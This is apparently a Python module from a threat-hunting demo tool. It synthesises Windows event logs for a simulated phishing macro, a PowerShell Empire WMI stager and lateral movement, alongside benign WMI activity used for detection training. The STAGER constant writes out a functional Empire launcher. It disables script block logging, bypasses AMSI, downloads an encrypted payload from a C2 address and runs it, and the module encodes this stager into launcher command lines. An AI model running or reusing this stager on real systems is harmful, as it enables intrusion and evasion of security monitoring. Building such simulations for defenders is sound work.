"""The attack the seed hunt found, plus the benign WMI activity it has to be told apart from.

2017-08-23, on wrk-btun: billy.tun opens a macro document from Outlook; the macro asks WMI to start
an encoded PowerShell Empire stager (so its parent is WmiPrvSE, in billy.tun's own session). The
agent looks around, then moves laterally with Empire's invoke_wmi: to venus (Kerberos) and to
wrk-klagerf by IP address (NTLM). On each target a type 3 logon from wrk-btun's address is
followed by WmiPrvSE (started by ``svchost -k DcomLaunch``) running
``powershell -noP -sta -w 1 -enc``
in that logon session: the same stager under Empire's own launcher. No Sysmon 3 anywhere.

Counts the seed's Results depend on (checked by tests/demo/test_counts.py): 11 WmiPrvSE starts as
NETWORK SERVICE (3 here, 8 benign), 3 children of ``wmiprvse.exe -secured -Embedding``, 2 network
sessions with process creations, 27 events carrying those two sessions' logon ids.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from functools import partial

from huntbook.demo.activity import SYSTEM_DIR
from huntbook.demo.events import Timeline, file_create, finish, image_load, spawn
from huntbook.demo.logons import Origin, credential_validation, logon, service_ticket
from huntbook.demo.model import Host, Network, Proc, Session
from huntbook.demo.sessions import DAY, Planned
from huntbook.errors import HuntbookError

C2 = "http://45.77.65.211:443"
C2_PATH = "/login/process.php"
USER_AGENT = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
STAGING_KEY = "3c6e0b8a9c15224a8228b9a98ca1531d"
STAGER = (
    "If($PSVersionTable.PSVersion.Major -ge 3){$GPF=[ref].Assembly.GetType("
    "'System.Management.Automation.Utils').\"GetFie`ld\"('cachedGroupPolicySettings','N'+"
    "'onPublic,Static');If($GPF){$GPC=$GPF.GetValue($null);If($GPC['ScriptB'+'lockLogging'])"
    "{$GPC['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging']=0;"
    "$GPC['ScriptB'+'lockLogging']['EnableScriptBlockInvocationLogging']=0}}"
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')|?{$_}|%{$_.GetField("
    "'amsiInitFailed','NonPublic,Static').SetValue($null,$true)};};"
    "[System.Net.ServicePointManager]::Expect100Continue=0;"
    "$wc=New-Object System.Net.WebClient;"
    f"$u='{USER_AGENT}';$wc.Headers.Add('User-Agent',$u);"
    "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
    "$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
    f"$Script:Proxy=$wc.Proxy;$K=[System.Text.Encoding]::ASCII.GetBytes('{STAGING_KEY}');"
    "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
    "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
    f"$ser='{C2}';$t='{C2_PATH}';"
    '$wc.Headers.Add("Cookie","session=Pp9Bz1WGgHGpShl4tiGRQmJNbJE=");'
    "$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"
    "-join[Char[]](& $R $data ($IV+$K))|IEX"
)
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode("ascii")
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#: The macro's launcher on wrk-btun and Empire's invoke_wmi launcher on the targets: same payload.
MACRO_LAUNCHER = f"{POWERSHELL} -NoP -NonI -W Hidden -Exec Bypass -Enc {ENCODED}"
WMI_LAUNCHER = f"powershell -noP -sta -w 1 -enc  {ENCODED}"
WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
WMIPRVSE_CMD = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
CONHOST = (
    "C:\\Windows\\System32\\conhost.exe",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
)
DOC = (
    "C:\\Users\\billy.tun\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
    "\\8RS3FRQN\\Invoice_0823.docm"
)
WINWORD = "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE"

#: Empire tasks run by each agent: (seconds after the agent starts, image, command line).
RECON = {
    "wrk-btun": (
        (310, "C:\\Windows\\System32\\whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all'),
        (
            655,
            "C:\\Windows\\System32\\net.exe",
            '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain',
        ),
        (
            1270,
            "C:\\Windows\\System32\\nltest.exe",
            '"C:\\Windows\\system32\\nltest.exe" /dclist:frothly',
        ),
    ),
    "venus": (
        (48, "C:\\Windows\\System32\\whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /groups'),
        (131, "C:\\Windows\\System32\\net.exe", '"C:\\Windows\\system32\\net.exe" share'),
        (402, "C:\\Windows\\System32\\tasklist.exe", '"C:\\Windows\\system32\\tasklist.exe" /v'),
    ),
    "wrk-klagerf": (
        (57, "C:\\Windows\\System32\\whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /groups'),
        (233, "C:\\Windows\\System32\\systeminfo.exe", '"C:\\Windows\\system32\\systeminfo.exe"'),
    ),
}
#: Benign WmiPrvSE starts as NETWORK SERVICE (local WMI consumers): (host, day, time of day).
BENIGN_WMI = (
    ("frothlydc", 0, "06:12:41.377"),
    ("venus", 0, "19:42:09.514"),
    ("wrk-aturing", 1, "09:15:27.092"),
    ("wrk-fyodor", 1, "11:02:58.640"),
    ("wrk-mars", 1, "22:30:13.205"),
    ("wrk-abungst", 2, "08:55:36.918"),
    ("wrk-bgist", 2, "12:19:49.731"),
    ("wrk-klagerf", 2, "16:45:02.166"),
)
PHISH_AT = "10:42:17.406"
#: Lateral movement on day 0: (target, time of day, authentication).
MOVES = (("venus", "14:12:07.283", "Kerberos"), ("wrk-klagerf", "14:31:44.851", "NTLM"))


def _clock(text: str) -> float:
    """Seconds after midnight for ``HH:MM:SS.fff``."""
    h, m, s = text.split(":")
    return int(h) * 3600 + int(m) * 60 + float(s)


Step = Callable[[Timeline, random.Random], None]


@dataclass
class Story:
    """The attack's state across its steps, and the steps in time order."""

    net: Network
    planned: list[Planned]
    agent: Proc | None = None
    steps: list[tuple[float, Step]] = field(default_factory=list)


def wmiprvse(tl: Timeline, rng: random.Random, t: float, host: Host) -> Proc:
    """WmiPrvSE as DCOM starts it for a WMI client: NETWORK SERVICE, parent svchost DcomLaunch."""
    proc = spawn(
        tl,
        rng,
        t,
        host.base["dcomlaunch"],
        WMIPRVSE,
        WMIPRVSE_CMD,
        session=host.system["network"],
        cwd=SYSTEM_DIR,
        integrity="System",
    )
    finish(tl, t + rng.uniform(120, 600), proc)
    return proc


def _agent(
    tl: Timeline,
    rng: random.Random,
    t: float,
    parent: Proc,
    cmd: str,
    session: Session,
    integrity: str,
) -> Proc:
    agent = spawn(
        tl,
        rng,
        t,
        parent,
        POWERSHELL,
        cmd,
        session=session,
        cwd=SYSTEM_DIR,
        integrity=integrity,
        impersonated=True,
    )
    image_load(
        tl,
        t + 0.2,
        agent,
        "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\a2ba8e5ba4b3cc7a8e4fd5a8d1a8a1f0\\System.Management.Automation.ni.dll",
    )
    spawn(tl, rng, t + 0.04, agent, *CONHOST)
    for delay, image, command in RECON[agent.host.name]:
        task = spawn(tl, rng, t + delay, agent, image, command)
        finish(tl, t + delay + rng.uniform(0.3, 4), task)
    return agent


def _phish(story: Story, t: float, tl: Timeline, rng: random.Random) -> None:
    host = story.net.host("wrk-btun")
    planned = next(p for p in story.planned if p.host is host and p.session is not None)
    session = planned.session
    outlook = session.apps.get("OUTLOOK.EXE") or session.explorer if session else None
    if session is None or outlook is None:
        raise HuntbookError("demo story: billy.tun is not logged on to wrk-btun at the phish")
    file_create(tl, t, outlook, DOC)
    word = spawn(
        tl,
        rng,
        t + 14,
        outlook,
        WINWORD,
        f'"{WINWORD}" /n "{DOC}" /o ""',
        cwd="C:\\Users\\billy.tun\\Documents\\",
    )
    finish(tl, t + 600, word)
    provider = wmiprvse(tl, rng, t + 40.3, host)
    # Win32_Process.Create starts the child in session 0 (hidden), with billy.tun's logon.
    hidden = replace(session, terminal=0, explorer=None, apps={})
    story.agent = _agent(tl, rng, t + 41.1, provider, MACRO_LAUNCHER, hidden, "Medium")
    finish(tl, planned.end - 3, story.agent)


def _move(
    story: Story, t: float, target_name: str, auth: str, tl: Timeline, rng: random.Random
) -> None:
    net = story.net
    source, target = net.host("wrk-btun"), net.host(target_name)
    dc = next(h for h in net.hosts if h.role == "dc")
    account = net.users["billy.tun"]
    if auth == "Kerberos":
        service_ticket(tl, t - 0.3, dc, account, target, source.ip, rng, net)
        origin = Origin(source.ip, str(rng.randint(49152, 65535)), "-", "Kerberos")
    else:
        credential_validation(tl, t - 0.2, dc, account, source.name.upper())
        origin = Origin(source.ip, str(rng.randint(49152, 65535)), source.name.upper(), "NTLM")
    session = Session(target.new_logon_id(rng), account, t, 3)
    logon(tl, t, net, target, session, origin)
    provider = wmiprvse(tl, rng, t + 0.9, target)
    _agent(tl, rng, t + 1.7, provider, WMI_LAUNCHER, session, "High")


def build(net: Network, planned: list[Planned]) -> Story:
    """The story's steps, each at a fixed time of the three days."""
    story = Story(net, planned)
    day0 = net.start
    phish_t = day0 + _clock(PHISH_AT)
    story.steps.append((phish_t, partial(_phish, story, phish_t)))
    for name, clock, auth in MOVES:
        at = day0 + _clock(clock)
        story.steps.append((at, partial(_move, story, at, name, auth)))
    for name, day, clock in BENIGN_WMI:
        at = day0 + day * DAY + _clock(clock)
        story.steps.append((at, partial(_benign_wmi, net.host(name), at)))
    story.steps.sort(key=lambda s: s[0])
    return story


def _benign_wmi(host: Host, t: float, tl: Timeline, rng: random.Random) -> None:
    wmiprvse(tl, rng, t, host)
